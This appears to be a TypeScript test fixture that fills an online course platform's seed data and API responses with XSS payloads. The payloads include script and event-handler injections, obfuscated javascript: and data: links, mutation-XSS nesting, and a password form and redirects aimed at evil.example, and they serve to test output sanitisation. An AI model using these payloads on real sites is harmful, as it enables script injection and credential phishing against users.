import { type Academy as Content, loadAcademy } from '../../../sandbox/seed'

const academy = loadAcademy()

/** Text that runs a script wherever it is treated as HTML. `name` says where it was put. */
export const hostile = (name: string): string =>
  `${name}<img src=x onerror="window.__xss='${name}'"><script>window.__xss='${name}'</script>"'`

/** The visible text of it, when it is shown as text. */
export const shownOf = (name: string): string => `${name}<img src=x onerror=`

export const hostileHtml = `
<p>开头的话</p>
<script>window.__xss='script'</script>
<img src="x" onerror="window.__xss='img'">
<svg onload="window.__xss='svg'"><a href="javascript:window.__xss='svg link'"></a></svg>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.__xss='srcdoc'</script>"></iframe>
<object data="javascript:window.__xss='object'"></object><embed src="javascript:window.__xss='embed'">
<form action="https://evil.example/"><input name="password"><button>提交</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/a.css">
<div style="position:fixed;inset:0;z-index:99999;background:url(javascript:window.__xss='css')">盖住一切</div>
<p onclick="window.__xss='click'" onmouseover="window.__xss='over'">按我试试</p>
<p><a href="javascript:window.__xss='plain'">链接甲</a></p>
<p><a href="JaVa&#115;cript&colon;window.__xss='entities'">链接乙</a></p>
<p><a href="data:text/html,<script>opener.__xss='data'</script>">链接丙</a></p>
<p><a href="//evil.example/">链接丁</a></p>
<math><mtext><table><mglyph>
<style><img src=x onerror="window.__xss='math'"></style></mglyph></table></mtext></math>
<p>结尾的话</p>`

/** The academy with an additional first course in which every text is hostile. */
export const hostileContent: Content = {
  ...academy,
  categories: {
    hostile: { name: hostile('大类'), children: { 'hostile-child': hostile('小类') } },
    ...academy.categories,
  },
  courses: [
    {
      key: 'hostile',
      title: hostile('课程'),
      category: 'hostile-child',
      priceYuan: 9,
      isRecommended: true,
      shortDescription: hostile('简介'),
      descriptionHtml: hostileHtml,
      userCount: 1,
      daysAgo: 1,
      media: 'mp4',
      lessons: [],
      chapters: [
        { title: hostile('章节'), lessons: [{ title: hostile('课时') }] },
        { title: hostile('另一章'), lessons: [] },
      ],
      attachments: [{ name: hostile('附件'), extension: hostile('格式'), body: '' }],
      comments: [
        {
          author: 'nanfeng',
          hoursAgo: 1,
          content: hostile('评论'),
          replies: [{ author: 'doujiang', hoursAgo: 1, content: hostile('回复') }],
        },
      ],
    },
    ...academy.courses,
  ],
}

const item = { id: 1, thumb: 'javascript:window.__xss=1', charge: 9, is_free: 0, user_count: 1 }

/** An answer with decoration blocks in which every field is hostile. */
export const hostileBlocks = JSON.stringify({
  code: 0,
  message: '',
  data: [
    {
      sign: 'slider',
      config_render: [{ src: `/x.svg" onerror="window.__xss='slide'`, href: 'javascript:window.__xss=1' }],
    },
    {
      sign: 'grid-nav',
      config_render: {
        line_count: '4',
        items: [
          { src: "javascript:window.__xss='icon'", name: hostile('宫格'), href: '/packageA/vod/index' },
          { src: '/x.svg', name: '脚本链接', href: "javascript:window.__xss='grid link'" },
          { src: '/x.svg', name: '数据链接', href: 'data:text/html,<script>window.__xss=1</script>' },
          { src: '/x.svg', name: '斜杠链接', href: '//evil.example/' },
        ],
      },
    },
    { sign: 'blank', config_render: { height: 10, bgcolor: 'red;background:url(//evil.example)' } },
    {
      sign: 'image-group',
      config_render: { v: 'v-1', items: [{ src: '/x.svg', url: "javascript:window.__xss='picture link'" }] },
    },
    {
      sign: 'h5-vod-v1',
      config_render: { title: hostile('橱窗'), items: [{ ...item, title: hostile('橱窗课') }] },
    },
    {
      sign: 'h5-gzh-v1',
      config_render: {
        title: hostile('号'),
        name: hostile('公众号'),
        logo: item.thumb,
        desc: hostile('号介绍'),
        qrcode: item.thumb,
      },
    },
    { sign: 'code', config_render: { html: "<script>window.__xss='code'</script>" } },
  ].map((block, id) => ({ id, platform: 'h5', page: 'h5-page-index', sort: id, config: null, ...block })),
})
